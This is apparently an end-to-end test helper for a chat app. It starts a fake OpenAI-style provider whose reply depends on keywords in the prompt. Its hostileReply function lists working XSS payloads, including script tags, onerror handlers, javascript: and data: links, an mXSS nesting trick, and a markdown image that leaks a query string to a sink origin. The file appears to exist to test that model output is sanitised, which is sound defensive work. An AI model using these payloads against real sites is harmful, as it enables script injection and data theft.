// The fake model provider the e2e scenarios talk to (through OPENAI_BASE_URL): the reply
// depends on a keyword in the visitor's prompt, so each scenario picks its behaviour.
import { startFakeOpenAI, words, type FakeProvider, type Script } from "../support/fake-providers.ts";
import { startSystem, type System } from "./harness.ts";
import { plainReply } from "./helpers.ts";

export const LONG_REPLY = plainReply(160);
export const SHORT_REPLY = plainReply(24, 2);

/** A reply with highlighted code in it (the "code-reply" keyword). */
export const CODE_REPLY = `Here is a function that totals an order:

\`\`\`ts
export function total(items: { price: number; qty: number }[]): number {
  // Prices are in cents, so the sum stays exact.
  return items.reduce((sum, item) => sum + item.price * item.qty, 0);
}
\`\`\`

Call it with the cart's items.`;

export function hostileReply(sinkOrigin: string): string {
  return [
    "# Totally normal answer",
    "<script>alert('script')</script>",
    `<img src="${sinkOrigin}/img-tag.png" onerror="alert('onerror')">`,
    `![exfiltrate](${sinkOrigin}/md-image.png?q=secret)`,
    "[javascript link](javascript:alert('js'))",
    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<a href=\"javascript:alert('raw')\">raw anchor</a>",
    "<svg><script>alert('svg')</script><animate onbegin=\"alert('anim')\"/></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
    `<iframe src="${sinkOrigin}/frame.html"></iframe>`,
    "<form action=\"javascript:alert('form')\"><button>go</button></form>",
    "[a safe link](https://example.com/docs) and [mail us](mailto:help@example.com).",
  ].join("\n\n");
}

/** Keyword -> behaviour. Default: LONG_REPLY at 15 ms a token. */
export async function startProvider(
  sinkOrigin = "http://127.0.0.1:9",
): Promise<FakeProvider & { failures: Map<string, number>; releaseHeld(): void }> {
  const failures = new Map<string, number>();
  // "held" replies pause halfway until the test calls releaseHeld(): a scenario that must see a
  // reply mid-stream does not depend on how fast a loaded machine runs the steps before it.
  let releaseHeld!: () => void;
  const held = new Promise<void>((resolve) => (releaseHeld = resolve));
  const script = (request: { messages: { role: string; content: unknown }[] }): Script => {
    const last = request.messages.filter((m) => m.role === "user").at(-1);
    const prompt = typeof last?.content === "string" ? last.content : JSON.stringify(last?.content ?? "");
    if (prompt.includes("hostile")) return { tokens: words(hostileReply(sinkOrigin)), delayMs: 2 };
    if (prompt.includes("short")) return { tokens: words(SHORT_REPLY), delayMs: 5 };
    if (prompt.includes("code-reply")) return { tokens: words(CODE_REPLY), delayMs: 2 };
    if (prompt.includes("fail-once")) {
      const seen = failures.get(prompt) ?? 0;
      failures.set(prompt, seen + 1);
      if (seen === 0) return { tokens: words(LONG_REPLY), delayMs: 10, dropAfter: 30 };
      return { tokens: words(SHORT_REPLY), delayMs: 5 };
    }
    if (prompt.includes("held")) return { tokens: words(LONG_REPLY), delayMs: 5, holdAt: { index: 80, until: held } };
    if (prompt.includes("slow")) return { tokens: words(LONG_REPLY), delayMs: 40 };
    return { tokens: words(LONG_REPLY), delayMs: 15 };
  };
  return Object.assign(await startFakeOpenAI(script), { failures, releaseHeld });
}

/** A system whose model is the fake provider above; `close()` stops both. */
export async function startSystemWithProvider(
  env: Record<string, string> = {},
  sinkOrigin?: string,
): Promise<System & { provider: Awaited<ReturnType<typeof startProvider>> }> {
  const provider = await startProvider(sinkOrigin);
  const system = await startSystem({
    OPENAI_BASE_URL: provider.baseUrl,
    OPENAI_API_KEY: "fake-key",
    AI_MODEL: "fake-model",
    ...env,
  });
  const closeSystem = system.close;
  return Object.assign(system, {
    provider,
    async close() {
      await closeSystem();
      await provider.close();
    },
  });
}
